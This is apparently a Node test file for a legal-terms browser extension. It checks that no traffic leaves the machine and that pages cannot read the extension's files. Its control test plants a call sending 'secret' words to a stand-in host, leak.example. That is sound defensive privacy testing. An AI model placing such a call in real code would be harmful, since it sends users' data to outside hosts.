// Nothing leaves the computer: every request of the whole browser goes through a recording proxy, while terms are
// found, painted, explained and summed up.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { BROWSERS, launch } from "./browser.mjs";
import { pointOn, termsPage } from "./helpers.mjs";
import { recordingProxy, serve } from "./server.mjs";

// What the browsers ask for by themselves (updates, sign-in, the time), with or without an extension.
const OWN_HOSTS =
  /^(https?:\/\/)?((clients2|accounts|www|update|optimizationguide-pa|content-autofill|safebrowsing|android\.clients|edgedl\.me)\.?(google|googleapis|gvt1)\.com|[a-z0-9.-]+\.mozilla\.(com|org|net))(:\d+)?(\/|$)/;

for (const name of BROWSERS) {
  describe(`${name}: no request leaves`, () => {
    let driver, server, proxy;

    before(async () => {
      server = await serve({ routes: { "/legal/terms": termsPage, "/plain": () => "<!doctype html><title>Soup</title><p>Soup." } });
      proxy = await recordingProxy();
      driver = await launch(name, { proxy: proxy.address });
    });
    after(async () => {
      await driver?.close();
      await proxy?.close();
      await server?.close();
    });

    const strangers = () =>
      proxy.requests.map(({ target }) => target).filter((target) => !target.startsWith(server.origin) && !OWN_HOSTS.test(target));

    test("reading, painting, explaining and summing up", async () => {
      const page = await driver.open(server.url("/legal/terms"));
      await driver.waitPainted(page);
      const { x, y } = await pointOn(page, "binding individual");
      await page.mouse.move(x, y);
      await driver.waitPopover(page);
      const popup = await driver.popup(page);
      await popup.waitForFunction(() => /arbitrat/i.test(document.body.textContent), { polling: 100 });
      await popup.close();
      await driver.killWorker();
      await page.reload();
      await driver.waitPainted(page);

      const asked = server.requests.map(({ path }) => path).filter((path) => path !== "/favicon.ico");
      assert.deepEqual(asked, ["/legal/terms", "/legal/terms"], "the server was asked for the page alone, once a load");
      assert.deepEqual(strangers(), [], "no other host was asked for anything");
    });

    test("the page cannot see the extension's files", async () => {
      const page = await driver.open(server.url("/plain"));
      const { origin } = driver;
      const seen = await page.evaluate(
        (files) => Promise.all(files.map((file) => fetch(file).then(() => file, () => undefined))),
        ["manifest.json", "core/clauselight_bg.wasm", "content/page.js", "icons/16.png"].map((file) => `${origin}/${file}`),
      );
      assert.deepEqual(seen.filter(Boolean), []);
    });

    test("the proxy would have seen a leak", async () => {
      const page = await driver.open(server.url("/plain"));
      await page.evaluate(() => fetch("http://leak.example/?words=secret", { mode: "no-cors" }).catch(() => {}));
      assert.deepEqual(strangers(), ["http://leak.example/?words=secret"]);
    });
  });
}
